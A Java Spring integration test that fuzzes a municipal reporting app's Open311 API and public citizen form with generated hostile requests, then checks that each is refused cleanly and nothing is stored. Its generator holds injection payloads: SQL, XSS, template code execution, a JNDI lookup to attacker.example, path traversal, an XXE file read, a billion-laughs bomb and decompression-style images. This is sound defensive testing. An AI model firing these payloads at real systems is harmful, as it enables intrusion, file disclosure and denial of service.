package de.sipa.reports.open311;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.CRC32;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;
import org.springframework.test.web.servlet.request.AbstractMockHttpServletRequestBuilder;

import de.sipa.SipaIntegrationTest;
import de.sipa.reports.open311.Open311Cities.Open311City;

/**
 * Properties of the two doors citizens use without an account, the Open311 POST ({@code requests.json} and
 * {@code requests.xml}) and the public form of the contact point, tried with generated hostile bodies: each try is a
 * request that must be refused, because it carries one flaw chosen at random (an unknown service code, coordinates
 * out of range or not numbers, a description beyond the limit, a missing answer, a wrong key, a body of another
 * content type such as deeply nested JSON, XML with an external entity or a billion laughs, a photo that is no image
 * …), dressed in random noise in its other fields (control characters, NUL, lone surrogates, invalid UTF-8, markup,
 * template and SQL injection, very long texts, unknown parameters). Whatever the mix:
 * <ul>
 * <li>the answer is never a 5xx;</li>
 * <li>it is a 4xx in the format asked for: Open311's error document in JSON or XML with the status as its code, the
 * form again as HTML without a stack trace (the bot trap alone thanks with a 200);</li>
 * <li>nothing is stored: no report, event or photo, no audit entry, no mail of the partnership.</li>
 * </ul>
 * Each try is a test of its own. The seed is random per run and printed; {@code -Dhostile.seed=…} repeats a run,
 * {@code -Dhostile.tries=…} changes the number of tries per door (50 by default).
 */
@SipaIntegrationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileBodiesTests {

    static final long SEED = Long.getLong("hostile.seed", new Random().nextLong());
    static final int TRIES = Integer.getInteger("hostile.tries", 50);
    private static final AtomicInteger ADDRESS = new AtomicInteger();

    @Autowired
    MockMvc mvc;

    @Autowired
    Open311Cities cities;

    @Autowired
    JdbcClient jdbc;

    Open311City city;
    int tried;
    int answered5xx;

    @BeforeAll
    void city() {
        city = cities.create();
    }

    @AfterAll
    void figures() {
        System.out.println("HostileBodiesTests: " + tried + " hostile bodies, " + answered5xx
                + " answered 5xx (seed " + SEED + ")");
    }

    @TestFactory
    Stream<DynamicTest> open311RefusesHostileJsonRequestsCleanlyAndStoresNothing() {
        return tries("json", this::open311);
    }

    @TestFactory
    Stream<DynamicTest> open311RefusesHostileXmlRequestsCleanlyAndStoresNothing() {
        return tries("xml", this::open311);
    }

    @TestFactory
    Stream<DynamicTest> thePublicFormRefusesHostileReportsCleanlyAndStoresNothing() {
        return tries("html", this::citizenForm);
    }

    interface Door {
        Hostile request(String format, Gen gen);
    }

    /** A request that must be refused, and what it is made of (for the failure message). */
    record Hostile(AbstractMockHttpServletRequestBuilder<?> request, String description, boolean trap) {
    }

    private Stream<DynamicTest> tries(String format, Door door) {
        // One generator per door and run, so that a seed gives the same requests whichever doors run.
        var gen = new Gen(new Random(SEED ^ format.hashCode()));
        return IntStream.range(0, TRIES).mapToObj(i -> {
            var hostile = door.request(format, gen);
            return DynamicTest.dynamicTest("try " + i + ": " + hostile.description(), () -> check(format, hostile));
        });
    }

    private void check(String format, Hostile hostile) throws Exception {
        var before = stored();
        MvcResult result;
        try {
            result = mvc.perform(hostile.request().with(from(nextAddress()))).andReturn();
        } catch (Exception e) {
            // MockMvc hands on what no handler took; a servlet container would answer 500.
            tried++;
            answered5xx++;
            throw new AssertionError("seed " + SEED + ": " + hostile.description() + " → " + e, e);
        }
        tried++;
        var response = result.getResponse();
        var status = response.getStatus();
        if (status >= 500) {
            answered5xx++;
        }
        var what = "seed " + SEED + ": " + hostile.description() + " answered " + status + " "
                + response.getContentType() + (response.getErrorMessage() == null ? "" : " " + response.getErrorMessage());
        assertThat(stored()).as("stored after " + what).isEqualTo(before);
        if (hostile.trap()) {
            assertThat(status).as(what).isEqualTo(200);
        } else {
            assertThat(status).as(what).isBetween(400, 499);
        }
        switch (format) {
            case "json" -> Open311Documents.assertJsonError(result, status);
            case "xml" -> Open311Documents.assertXmlError(result, status);
            default -> {
                assertThat(response.getContentType()).as(what).startsWith("text/html");
                assertThat(response.getContentAsString()).as(what).contains("</html>")
                        .doesNotContain("Exception", "at de.sipa.", "at org.springframework.");
            }
        }
    }

    // --- Open311 -------------------------------------------------------------------------------------------------

    enum Open311Flaw {
        UNKNOWN_SERVICE, NO_SERVICE, LATITUDE_OUT_OF_RANGE, LONGITUDE_OUT_OF_RANGE, NOT_A_NUMBER, LATITUDE_ALONE,
        NO_LOCATION, NULL_ISLAND, DESCRIPTION_TOO_LONG, ANSWER_MISSING, ANSWER_NOT_A_CHOICE, WRONG_KEY, NO_KEY,
        UNKNOWN_JURISDICTION, OTHER_CONTENT_TYPE, PHOTO_NO_IMAGE
    }

    private Hostile open311(String format, Gen gen) {
        var flaw = gen.pick(Open311Flaw.values());
        var params = new LinkedHashMap<String, String>();
        params.put("jurisdiction_id", city.slug());
        params.put("api_key", city.apiKey());
        params.put("service_code", city.drugs().code());
        params.put("lat", "48.77812");
        params.put("long", "9.18351");
        params.put("description", "Spritzen im Gebüsch");
        params.put("attribute[art]", "handel");
        // Noise in fields the flaw does not depend on.
        var noisy = new ArrayList<>(List.of("description", "first_name", "last_name", "email", "phone", "media_url",
                "device_id", "account_id", "attribute[wo][]", "attribute[anzahl]", "extensions"));
        var noise = new ArrayList<String>();
        for (int n = gen.random.nextInt(5); n > 0; n--) {
            var name = gen.random.nextInt(6) == 0 ? gen.text() : gen.pick(noisy);
            if (name.isBlank() || params.containsKey(name) && !name.equals("description")
                    || name.startsWith("attribute[art") || name.startsWith("address") || name.equals("lat")
                    || name.equals("long") || name.equals("service_code") || name.equals("api_key")
                    || name.equals("jurisdiction_id")) {
                continue;
            }
            params.put(name, gen.text());
            noise.add(name);
        }
        gen.spoil(noise);
        switch (flaw) {
            case UNKNOWN_SERVICE -> params.put("service_code", gen.unknownCode(city.drugs().code(),
                    city.graffiti().code(), city.noise().code()));
            case NO_SERVICE -> params.remove("service_code");
            case LATITUDE_OUT_OF_RANGE -> params.put("lat", gen.outOfRange(90));
            case LONGITUDE_OUT_OF_RANGE -> params.put("long", gen.outOfRange(180));
            case NOT_A_NUMBER -> params.put(gen.random.nextBoolean() ? "lat" : "long", gen.notANumber());
            case LATITUDE_ALONE -> params.remove("long");
            case NO_LOCATION -> {
                params.remove("lat");
                params.remove("long");
            }
            case NULL_ISLAND -> {
                params.put("lat", "0");
                params.put("long", "0.0");
            }
            case DESCRIPTION_TOO_LONG -> params.put("description", gen.tooLong(5000));
            case ANSWER_MISSING -> params.remove("attribute[art]");
            case ANSWER_NOT_A_CHOICE -> params.put("attribute[art]", gen.unknownCode("handel", "konsum"));
            case WRONG_KEY -> params.put("api_key", gen.unknownCode(city.apiKey()));
            case NO_KEY -> params.remove("api_key");
            case UNKNOWN_JURISDICTION -> params.put("jurisdiction_id", "x-" + gen.unknownCode(city.slug()));
            default -> {
            }
        }
        var path = "/open311/v2/requests." + format;
        AbstractMockHttpServletRequestBuilder<?> request;
        String body;
        if (flaw == Open311Flaw.OTHER_CONTENT_TYPE) {
            var other = gen.otherBody(params);
            request = post(path).contentType(other.contentType()).content(other.bytes());
            body = other.description();
        } else if (flaw == Open311Flaw.PHOTO_NO_IMAGE) {
            var photo = gen.notAnImage();
            var upload = multipart(path).file(new MockMultipartFile("media", gen.fileName(), "image/png", photo));
            params.forEach(upload::param);
            request = upload;
            body = "multipart with " + photo.length + " bytes that are no image";
        } else {
            request = post(path).contentType("application/x-www-form-urlencoded").content(gen.formBody(params));
            body = "form";
        }
        return new Hostile(request, flaw + " (" + body + ", noise in " + printable(noise) + ")", false);
    }

    // --- the public form -----------------------------------------------------------------------------------------

    enum FormFlaw {
        NO_CATEGORY, UNKNOWN_CATEGORY, CATEGORY_NOT_AN_ID, BLANK_DESCRIPTION, DESCRIPTION_TOO_LONG,
        LATITUDE_OUT_OF_RANGE, LONGITUDE_OUT_OF_RANGE, NOT_A_NUMBER, COORDINATE_TOO_LONG, NULL_ISLAND, NO_LOCATION,
        UNKNOWN_DISTRICT, EMAIL_INVALID, ANSWER_MISSING, OTHER_CONTENT_TYPE, PHOTO_NO_IMAGE, BOT_TRAP
    }

    private Hostile citizenForm(String format, Gen gen) {
        var flaw = gen.pick(FormFlaw.values());
        var params = new LinkedHashMap<String, String>();
        params.put("categoryId", city.drugs().id().toString());
        params.put("description", "Spritzen im Gebüsch");
        params.put("latitude", "48.77812");
        params.put("longitude", "9.18351");
        params.put("attributes[art]", "handel");
        var noise = new ArrayList<String>();
        var noisy = List.of("name", "phone", "attributes[wo]", "attributes[anzahl]", "description");
        for (int n = gen.random.nextInt(4); n > 0; n--) {
            var name = gen.random.nextInt(6) == 0 ? gen.text() : gen.pick(noisy);
            if (name.isBlank() || List.of("categoryId", "latitude", "longitude", "address", "districtId", "email",
                    "website").contains(name) || name.startsWith("attributes[art")) {
                continue;
            }
            params.put(name, gen.text());
            noise.add(name);
        }
        gen.spoil(noise);
        boolean trap = false;
        switch (flaw) {
            case NO_CATEGORY -> params.remove("categoryId");
            case UNKNOWN_CATEGORY -> params.put("categoryId", UUID.randomUUID().toString());
            case CATEGORY_NOT_AN_ID -> params.put("categoryId", gen.text());
            case BLANK_DESCRIPTION -> {
                params.put("description", gen.pick(new String[] {"", " ", " \t\r\n "}));
                gen.spoiled.remove("description");
            }
            case DESCRIPTION_TOO_LONG -> params.put("description", gen.tooLong(5000));
            case LATITUDE_OUT_OF_RANGE -> params.put("latitude", gen.outOfRange(90));
            case LONGITUDE_OUT_OF_RANGE -> params.put("longitude", gen.outOfRange(180));
            case NOT_A_NUMBER -> params.put(gen.random.nextBoolean() ? "latitude" : "longitude", gen.notANumber());
            case COORDINATE_TOO_LONG -> params.put("latitude", "48." + "7".repeat(40 + gen.random.nextInt(5000)));
            case NULL_ISLAND -> {
                params.put("latitude", "0");
                params.put("longitude", "0");
            }
            case NO_LOCATION -> {
                params.remove("latitude");
                params.remove("longitude");
            }
            case UNKNOWN_DISTRICT -> {
                params.remove("latitude");
                params.remove("longitude");
                params.put("districtId", UUID.randomUUID().toString());
            }
            case EMAIL_INVALID -> params.put("email", "kein Postfach " + gen.text());
            case ANSWER_MISSING -> params.remove("attributes[art]");
            case BOT_TRAP -> {
                params.put("website", "https://spam.example/" + Math.abs(gen.random.nextInt()));
                trap = true;
            }
            default -> {
            }
        }
        var path = "/buerger/" + city.slug() + "/melden";
        AbstractMockHttpServletRequestBuilder<?> request;
        String body;
        if (flaw == FormFlaw.OTHER_CONTENT_TYPE) {
            var other = gen.otherBody(params);
            request = post(path).contentType(other.contentType()).content(other.bytes());
            body = other.description();
        } else if (flaw == FormFlaw.PHOTO_NO_IMAGE) {
            var photo = gen.notAnImage();
            var upload = multipart(path).file(new MockMultipartFile("photo", gen.fileName(), "image/jpeg", photo));
            params.forEach(upload::param);
            request = upload;
            body = "multipart with " + photo.length + " bytes that are no image";
        } else {
            request = post(path).contentType("application/x-www-form-urlencoded").content(gen.formBody(params));
            body = "form";
        }
        return new Hostile(request.with(csrf()), flaw + " (" + body + ", noise in " + printable(noise) + ")", trap);
    }

    /** Parameter names as Java would write them, each cut to 30 characters. */
    static String printable(List<String> names) {
        return names.stream().map(name -> {
            var shown = name.length() > 30 ? name.substring(0, 30) + "…(" + name.length() + ")" : name;
            var out = new StringBuilder("\"");
            shown.chars().forEach(c -> out.append(c < 0x20 || c > 0x7E && c < 0xA0 || c >= 0xD800 && c <= 0xDFFF
                    || c >= 0xFFFE ? String.format("\\u%04x", c) : String.valueOf((char) c)));
            return out.append('"').toString();
        }).toList().toString();
    }

    // --- what is stored ------------------------------------------------------------------------------------------

    /** Reports, their events and photos, audit entries and mails of the test's partnership. */
    private List<Long> stored() {
        var partnership = city.city().id().value();
        return List.of(
                count("SELECT count(*) FROM reports_report WHERE partnership_id = ?", partnership),
                count("SELECT count(*) FROM reports_event e JOIN reports_report r ON r.id = e.report_id"
                        + " WHERE r.partnership_id = ?", partnership),
                count("SELECT count(*) FROM reports_photo p JOIN reports_report r ON r.id = p.report_id"
                        + " WHERE r.partnership_id = ?", partnership),
                count("SELECT count(*) FROM identity_audit_entry WHERE partnership_id = ?", partnership),
                count("SELECT count(*) FROM notifications_mail WHERE partnership_id = ?", partnership));
    }

    private long count(String sql, UUID partnership) {
        return jdbc.sql(sql).param(partnership).query(Long.class).single();
    }

    /** Each try from an address of its own, so that the intake limit per address never answers instead. */
    private static String nextAddress() {
        int n = ADDRESS.incrementAndGet();
        return "10." + (n >> 16 & 0xFF) + "." + (n >> 8 & 0xFF) + "." + (n & 0xFF);
    }

    private static org.springframework.test.web.servlet.request.RequestPostProcessor from(String address) {
        return request -> {
            request.setRemoteAddr(address);
            return request;
        };
    }

    // --- the generator -------------------------------------------------------------------------------------------

    /** A body of another content type than a form. */
    record OtherBody(String contentType, byte[] bytes, String description) {
    }

    /** Hostile values from a seeded random source. */
    static final class Gen {

        static final String[] INJECTIONS = {"' OR '1'='1' --", "'; DROP TABLE reports_report; --",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "${7*7}",
            "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]", "__${T(java.lang.System).exit(0)}__::.x",
            "#{7*7}", "{{7*7}}", "${jndi:ldap://attacker.example/a}", "../../../../etc/passwd",
            "..\\..\\windows\\win.ini", "%00", "%2e%2e%2f", "=HYPERLINK(\"http://x\")", "@SUM(1+1)", "\\u0000",
            "<!--", "]]>", "&amp;&lt;&#0;&#xD800;", "𝕊𝕚ℙ𝕒 👩‍👩‍👧‍👦", "e\u0301\u0301\u0301", "\u202Egnp.exe",
            "\uFEFFBOM", "\u200B\u200C\u200D", "NaN", "-0", "1e309"};
        static final String XXE = """
                <?xml version="1.0"?>
                <!DOCTYPE service_request [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
                <service_request><service_code>&xxe;</service_code><lat>48.7</lat></service_request>""";
        static final String BILLION_LAUGHS = """
                <?xml version="1.0"?>
                <!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
                <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
                <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
                <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
                <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
                <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
                <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
                <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
                <service_request><description>&lol9;</description></service_request>""";
        /** Byte sequences that are no UTF-8: a lone continuation, overlong '/', a surrogate, five bytes, 0xFF … */
        static final byte[][] INVALID_UTF8 = {{(byte) 0x80}, {(byte) 0xC3, 0x28}, {(byte) 0xC0, (byte) 0xAF},
            {(byte) 0xE2, 0x28, (byte) 0xA1}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
            {(byte) 0xF0, 0x28, (byte) 0x8C, (byte) 0xBC}, {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80,
                (byte) 0x80}, {(byte) 0xFF}, {(byte) 0xFE, (byte) 0xFF}, {0}};

        final Random random;
        /** Fields whose value gets bytes that are no UTF-8 appended in a form body: some of the noisy ones. */
        final java.util.Set<String> spoiled = new java.util.HashSet<>();

        Gen(Random random) {
            this.random = random;
        }

        void spoil(List<String> noisy) {
            spoiled.clear();
            noisy.stream().filter(name -> random.nextInt(3) == 0).forEach(spoiled::add);
        }

        <T> T pick(T[] values) {
            return values[random.nextInt(values.length)];
        }

        <T> T pick(List<T> values) {
            return values.get(random.nextInt(values.size()));
        }

        /** A hostile text: control characters, surrogates, injections, very long, or a mix of them. */
        String text() {
            return switch (random.nextInt(7)) {
                case 0 -> controlCharacters(1 + random.nextInt(40));
                case 1 -> pick(INJECTIONS);
                case 2 -> pick(INJECTIONS) + controlCharacters(3) + pick(INJECTIONS);
                case 3 -> "x".repeat(1 + random.nextInt(8)) + "\u0000" + "\uD800" + "\uDFFF" + "\uFFFE";
                case 4 -> randomCodePoints(1 + random.nextInt(200));
                case 5 -> pick(new String[] {XXE, BILLION_LAUGHS, nestedJson(200 + random.nextInt(2000))});
                default -> randomCodePoints(20).repeat(1 + random.nextInt(3000));
            };
        }

        private String controlCharacters(int length) {
            var out = new StringBuilder();
            for (int i = 0; i < length; i++) {
                int c = random.nextInt(4) == 0 ? 0x7F + random.nextInt(0x21) : random.nextInt(0x20);
                out.append((char) c);
            }
            return out.toString();
        }

        /** Any UTF-16 units, lone surrogates and non-characters included. */
        private String randomCodePoints(int length) {
            var out = new StringBuilder();
            for (int i = 0; i < length; i++) {
                out.append((char) random.nextInt(0x10000));
            }
            return out.toString();
        }

        /** A code that is none of the known ones. */
        String unknownCode(String... known) {
            while (true) {
                var code = random.nextBoolean() ? text() : HexFormat.of().toHexDigits(random.nextLong());
                if (!List.of(known).contains(code.strip()) && !code.isBlank()) {
                    return code;
                }
            }
        }

        /** A number beyond ±limit, as people and programs write them. */
        String outOfRange(int limit) {
            double beyond = limit + 1e-6 + random.nextDouble() * pick(new Double[] {1.0, 1000.0, 1e300});
            var text = random.nextBoolean() ? String.valueOf(beyond) : String.format(java.util.Locale.ROOT, "%.8f", beyond);
            return random.nextBoolean() ? text : "-" + text;
        }

        String notANumber() {
            return pick(new String[] {"NaN", "-NaN", "Infinity", "-Infinity", "1e309", "-1e999", "abc", "48,7,1",
                "48.7.1", "0x", "\u0000", "٤٨٫٧", "48.7°", "½", "1_000", "--1", "4 8"});
        }

        /** A description of visible characters beyond the limit, with noise in it. */
        String tooLong(int limit) {
            var length = limit + 1 + random.nextInt(random.nextBoolean() ? 10 : 60_000);
            var out = new StringBuilder(text().replaceAll("\\p{Cntrl}", "")).append(' ');
            while (out.length() < length + 200) {
                out.append("Spritzen im Gebüsch ");
            }
            return out.toString();
        }

        String nestedJson(int depth) {
            return "[".repeat(depth) + "{\"a\":" + "[".repeat(depth);
        }

        String fileName() {
            return pick(new String[] {"../../../etc/passwd", "foto\u0000.png", "..\\..\\boot.ini", "a".repeat(5000),
                "<script>.jpg", "CON", "foto.png"});
        }

        /** Bytes that are no image: random, a truncated PNG, a PNG header claiming a gigapixel image, or a text. */
        byte[] notAnImage() {
            return switch (random.nextInt(4)) {
                case 0 -> {
                    var bytes = new byte[1 + random.nextInt(4096)];
                    random.nextBytes(bytes);
                    yield bytes;
                }
                case 1 -> HexFormat.of().parseHex("89504e470d0a1a0a0000000d49484452");
                case 2 -> pngHeader(60_000 + random.nextInt(100_000), 60_000 + random.nextInt(100_000));
                default -> text().getBytes(StandardCharsets.UTF_8);
            };
        }

        /** A PNG signature and a valid header chunk for a huge image, without pixel data. */
        static byte[] pngHeader(int width, int height) {
            var header = ByteBuffer.allocate(17).put("IHDR".getBytes(StandardCharsets.US_ASCII)).putInt(width)
                    .putInt(height).put((byte) 8).put((byte) 2).put((byte) 0).put((byte) 0).put((byte) 0).array();
            var crc = new CRC32();
            crc.update(header);
            return ByteBuffer.allocate(8 + 4 + 17 + 4).put(HexFormat.of().parseHex("89504e470d0a1a0a")).putInt(13)
                    .put(header).putInt((int) crc.getValue()).array();
        }

        /** The fields as a form body; some values carry percent-encoded bytes that are no UTF-8. */
        byte[] formBody(Map<String, String> params) {
            var out = new StringBuilder();
            params.forEach((name, value) -> {
                if (!out.isEmpty()) {
                    out.append('&');
                }
                out.append(encode(name)).append('=').append(encode(value));
                if (spoiled.contains(name)) {
                    for (var b : pick(INVALID_UTF8)) {
                        out.append('%').append(HexFormat.of().withUpperCase().toHexDigits(b));
                    }
                }
            });
            return out.toString().getBytes(StandardCharsets.US_ASCII);
        }

        private static String encode(String text) {
            // Lone surrogates become '?', as a client's encoder would send them.
            return URLEncoder.encode(text, StandardCharsets.UTF_8);
        }

        /** The request as JSON (deep or flat), XML (with an external entity or a billion laughs) or plain text. */
        OtherBody otherBody(Map<String, String> params) {
            return switch (random.nextInt(7)) {
                case 0 -> new OtherBody("application/json", json(params).getBytes(StandardCharsets.UTF_8), "JSON");
                case 1 -> {
                    int depth = 1_000 + random.nextInt(50_000);
                    yield new OtherBody("application/json", nestedJson(depth).getBytes(StandardCharsets.UTF_8),
                            "JSON nested " + depth + " deep");
                }
                case 2 -> {
                    var huge = new StringBuilder("[");
                    for (int i = 0, n = 10_000 + random.nextInt(100_000); i < n; i++) {
                        huge.append(i == 0 ? "" : ",").append("{\"service_code\":\"").append(i).append("\"}");
                    }
                    yield new OtherBody("application/json", huge.append(']').toString()
                            .getBytes(StandardCharsets.UTF_8), "JSON array of " + huge.length() + " characters");
                }
                case 3 -> new OtherBody(pick(new String[] {"application/xml", "text/xml"}),
                        XXE.getBytes(StandardCharsets.UTF_8), "XML with an external entity");
                case 4 -> new OtherBody(pick(new String[] {"application/xml", "text/xml", "application/soap+xml"}),
                        BILLION_LAUGHS.getBytes(StandardCharsets.UTF_8), "XML billion laughs");
                case 5 -> {
                    var bytes = new ByteArrayOutputStream();
                    bytes.writeBytes(formBody(params));
                    bytes.writeBytes(pick(INVALID_UTF8));
                    yield new OtherBody(pick(new String[] {"text/plain", "application/octet-stream",
                        "image/png", "application/x-www-form-urlencodedx", "text/html; charset=UTF-7"}),
                            bytes.toByteArray(), "a form sent as another type");
                }
                default -> new OtherBody("multipart/form-data", formBody(params), "multipart without boundary");
            };
        }

        private static String json(Map<String, String> params) {
            var out = new StringBuilder("{");
            params.forEach((name, value) -> out.append(out.length() > 1 ? "," : "").append('"').append(escape(name))
                    .append("\":\"").append(escape(value)).append('"'));
            return out.append('}').toString();
        }

        private static String escape(String text) {
            var out = new StringBuilder();
            text.chars().forEach(c -> out.append(c < 0x20 || c == '"' || c == '\\' ? String.format("\\u%04x", c)
                    : String.valueOf((char) c)));
            return out.toString();
        }
    }
}
